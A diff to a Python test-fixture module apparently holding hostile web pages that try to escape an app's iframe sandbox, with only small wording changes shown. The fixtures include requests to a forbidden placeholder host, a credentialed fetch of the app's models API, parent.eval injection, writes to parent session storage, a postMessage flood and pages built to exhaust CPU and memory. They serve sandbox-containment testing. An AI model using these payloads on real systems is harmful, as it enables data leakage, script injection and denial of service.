@@ -1,13 +1,13 @@
-"""Pages that try to get out of the sandbox, or to take the studio with them.
+"""Pages that try to escape the sandbox, or to take the studio down with them.
 
-`$W` is an address that must never be asked for anything, `$U` its port for UDP, `$S` the studio; what is asked of the
-studio ends in "leak". One that takes the keyboard's focus is not among them: no policy keeps a frame from that.
+`$W` is an address that must never be requested, `$U` its UDP port, `$S` the studio; requests to the studio end in
+"leak". A page that takes the keyboard focus is not included: no policy keeps a frame from that.
 """
 
 from __future__ import annotations
 
 _MARKUP = {
-    # Network, by what a page loads.
+    # Network requests by markup.
     "image": '<img src="$W/image"><img srcset="$W/image 2x"><input type=image src="$W/image">',
     "picture of the studio": '<img src="$S/icon.svg?leak">',
     "script": '<script src="$W/script"></script><script type=module src="$W/script"></script>',
@@ -40,7 +40,7 @@ _MARKUP = {
     "script of a link": '<a id=a href="javascript:top.location=`$W/js`" target=_parent>x</a><script>a.click()</script>',
 }
 _SCRIPTS = {
-    # Network, by what a script asks for.
+    # Network requests by scripts.
     "fetch": "fetch('$W/fetch').catch(() => 0); fetch('$W/fetch', {mode: 'no-cors', keepalive: true})",
     "fetch of the studio": "fetch('$S/v1/models?leak', {credentials: 'include'})",
     "request": "const r = new XMLHttpRequest(); r.open('POST', '$W/request'); r.send('x')",
@@ -73,7 +73,7 @@ _SCRIPTS = {
     "parent's script": "parent.eval('document.body.innerHTML = 1')",
     "way back": "history.back(); history.go(-2)",
     "message": "for (let i = 0; i < 1e4; i++) parent.postMessage({type: 'sf-say', text: 'x'.repeat(100)}, '*')",
-    # Storage, and what a browser asks a person about.
+    # Storage, and what needs a person's permission.
     "storage": "localStorage.setItem('sfumato.hostile', '1')",
     "session storage": "parent.sessionStorage.setItem('key', 'stolen')",
     "cookie": "document.cookie = 'hostile=1'",
@@ -100,13 +100,13 @@ _COSTLY = {
         "setInterval(() => { document.body.innerHTML = '<table><tr><td>x'.repeat(500); document.body.offsetHeight })"
     ),
 }
-_BEGUN = "parent.postMessage('begun', '*');"
-CONTAINED = {name: f"<!doctype html><body><script>{_BEGUN}</script>{markup}" for name, markup in _MARKUP.items()} | {
-    name: f"<!doctype html><body><script>{_BEGUN}{script}</script>" for name, script in _SCRIPTS.items()
+_STARTED = "parent.postMessage('begun', '*');"
+CONTAINED = {name: f"<!doctype html><body><script>{_STARTED}</script>{markup}" for name, markup in _MARKUP.items()} | {
+    name: f"<!doctype html><body><script>{_STARTED}{script}</script>" for name, script in _SCRIPTS.items()
 }
-"""Pages that reach for something, by what it is."""
+"""Pages that try to reach something, by its name."""
 COSTLY = {
-    name: f"<!doctype html><body><script>{_BEGUN}setTimeout(() => {{ {script} }}, 50)</script>"
+    name: f"<!doctype html><body><script>{_STARTED}setTimeout(() => {{ {script} }}, 50)</script>"
     for name, script in _COSTLY.items()
 }
 """Pages that use up time or memory."""
